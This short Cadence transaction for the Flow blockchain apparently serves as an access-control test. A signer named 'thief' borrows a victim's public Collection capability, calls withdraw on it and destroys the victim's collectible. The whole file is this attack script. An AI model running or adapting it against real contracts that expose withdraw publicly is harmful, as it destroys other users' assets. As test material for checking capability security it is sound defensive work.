import "Collectible"

/// Calls withdraw on the public reference of `victim`.
transaction(victim: Address, id: UInt64) {
    prepare(thief: &Account) {
        let public = getAccount(victim).capabilities.borrow<&Collectible.Collection>(Collectible.CollectionPublicPath)!
        destroy public.withdraw(withdrawID: id)
    }
}
